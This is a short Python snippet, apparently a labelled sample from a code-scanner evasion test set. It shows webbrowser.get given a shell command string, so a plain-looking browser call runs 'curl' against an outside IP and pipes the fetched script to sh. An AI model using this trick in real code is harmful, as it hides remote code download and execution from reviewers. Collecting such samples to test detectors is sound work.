# evasion: webbrowser.get with a command line runs it through GenericBrowser
# grade: very hard; does: shell
import webbrowser

b = webbrowser.get("sh -c 'curl -s http://203.0.113.7/x | sh' %s")
b.open("about:blank")
